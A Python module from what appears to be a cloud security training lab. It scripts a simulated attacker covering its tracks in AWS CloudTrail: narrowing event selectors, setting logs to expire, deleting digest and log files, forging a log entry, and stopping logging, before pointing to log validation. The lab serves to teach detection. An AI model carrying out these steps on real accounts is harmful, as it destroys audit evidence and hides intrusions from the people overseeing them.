"""Tampering: an attacker removes traces, step by step."""

import gzip
import json
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import timedelta
from typing import Any

from botocore.exceptions import ClientError

from lab.errors import LabError
from lab.instance import control
from lab.instance.folder import Lab
from lab.scenarios.actor import Actor, Place, learner, user
from lab.scenarios.recording import logging_trails

NAME = "mallory"

_ADMIN = Place("198.51.100.10", "aws-cli/2.31.0 md/Botocore#1.43.106 setup")
_PLACE = Place("203.0.113.66", "Boto3/1.26.0 Python/3.9 Linux/5.10")
_DIGESTS = 3
_NEXT_SECOND = 1.1  # a digest is named after the second in which it ends
_WRITES_ONLY = [{"ReadWriteType": "WriteOnly", "IncludeManagementEvents": True}]
_ONE_DAY = {
    "Rules": [{"ID": "tidy-up", "Status": "Enabled", "Filter": {"Prefix": ""}, "Expiration": {"Days": 1}}],
}


def tamper(lab: Lab) -> Iterator[str]:
    """Attacks the first trail that logs.

    :raises LabError: there is none.
    """
    admin = learner(lab, _ADMIN)
    trails = [trail for trail in logging_trails(admin) if trail["HomeRegion"] == lab.region]
    if not trails:
        raise LabError(f"In {lab.region} there is no trail that logs, so there is nothing to tamper with.")
    trail = trails[0]
    mallory = user(lab, admin, NAME, _operators_policy(trail), _PLACE)
    yield (
        f"{admin.name} gave {NAME} what an operator of the trail seems to need: to change the trail, and to use its "
        f"bucket and its key; {NAME} calls from {_PLACE.address}"
    )
    bucket, name = trail["S3BucketName"], trail["TrailARN"]
    digests = _deliver_several(lab, mallory, trail)
    s3, cloudtrail = mallory.client("s3"), mallory.client("cloudtrail")
    narrowed = {"TrailName": name, "EventSelectors": _WRITES_ONLY}
    yield _tried("PutEventSelectors: only writes are logged", cloudtrail.put_event_selectors, **narrowed)
    lifecycle = {"Bucket": bucket, "LifecycleConfiguration": _ONE_DAY}
    yield _tried("PutBucketLifecycle: log files expire after a day", s3.put_bucket_lifecycle_configuration, **lifecycle)
    if digests:
        gone, other = digests[-1].key, digests[-2]
        yield _tried(f"DeleteObject: the digest {gone}", s3.delete_object, Bucket=bucket, Key=gone)
        yield _tried(f"DeleteObject: the log file {other.logs[0]}", s3.delete_object, Bucket=bucket, Key=other.logs[0])
        edited = digests[-3].logs[0]
        yield _tried(f"PutObject: {NAME} is gone from the log file {edited}", _edit, s3, bucket, edited)
    else:
        yield "The trail has no log file validation, so a change of its files cannot be detected"
    yield _tried("StopLogging: from now on nothing is recorded", cloudtrail.stop_logging, Name=name)
    mallory.client("iam").list_users()
    yield f"{NAME} looks around unseen: ListUsers is in the event history, but in no log file"
    started = admin.client("cloudtrail").get_trail_status(Name=name)["StartLoggingTime"]
    since = (started - timedelta(days=1)).strftime("%Y-%m-%d")
    yield f"What can still be proven?   aws cloudtrail validate-logs --trail-arn {name} --start-time {since}"


def _operators_policy(trail: Any) -> dict[str, Any]:
    bucket = f"arn:aws:s3:::{trail['S3BucketName']}"
    statements = [
        {"Action": ["cloudtrail:PutEventSelectors", "cloudtrail:StopLogging"], "Resource": trail["TrailARN"]},
        {"Action": ["s3:ListBucket", "s3:PutLifecycleConfiguration"], "Resource": bucket},
        {"Action": ["s3:GetObject", "s3:PutObject", "s3:DeleteObject"], "Resource": f"{bucket}/*"},
        {"Action": ["s3:ListAllMyBuckets", "iam:ListUsers"], "Resource": "*"},
    ]
    if "KmsKeyId" in trail:
        statements.append({"Action": ["kms:Decrypt", "kms:GenerateDataKey"], "Resource": trail["KmsKeyId"]})
    return {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", **each} for each in statements]}


@dataclass(frozen=True, slots=True)
class _Digest:
    """A digest and the log files that it lists, by object key."""

    key: str
    logs: tuple[str, ...]


def _deliver_several(lab: Lab, mallory: Actor, trail: Any) -> list[_Digest]:
    """Lets the trail deliver three digests with log files, and returns all of those, oldest first; none of a trail
    without validation.
    """
    for _ in range(_DIGESTS):
        mallory.client("s3").list_buckets()
        time.sleep(_NEXT_SECOND)
        control.deliver(lab)
    if not trail["LogFileValidationEnabled"]:
        return []
    s3 = mallory.client("s3")
    start = f"{trail['S3KeyPrefix']}/" if trail.get("S3KeyPrefix") else ""
    prefix = f"{start}AWSLogs/{lab.account}/CloudTrail-Digest/{lab.region}/"
    pages = s3.get_paginator("list_objects_v2").paginate(Bucket=trail["S3BucketName"], Prefix=prefix)
    keys = sorted(each["Key"] for page in pages for each in page.get("Contents", ()))
    return [found for found in (_read(s3, trail["S3BucketName"], key) for key in keys) if found.logs][-_DIGESTS:]


def _read(s3: Any, bucket: str, key: str) -> _Digest:
    body = json.loads(gzip.decompress(s3.get_object(Bucket=bucket, Key=key)["Body"].read()))
    return _Digest(key, tuple(log["s3Object"] for log in body["logFiles"]))


def _edit(s3: Any, bucket: str, key: str) -> None:
    found = s3.get_object(Bucket=bucket, Key=key)
    text = gzip.decompress(found["Body"].read()).replace(NAME.encode(), b"nobody")
    content = gzip.compress(text.replace(b'"eventVersion"', b'"eventVersion" ', 1))
    s3.put_object(Bucket=bucket, Key=key, Body=content, ContentEncoding="gzip", ContentType="application/json")


def _tried(text: str, call: Callable[..., object], *arguments: object, **parameters: object) -> str:
    try:
        call(*arguments, **parameters)
    except ClientError as rejected:
        return f"{NAME} tried {text} - rejected: {rejected.response['Error']['Code']}"
    return f"{NAME} did {text}"
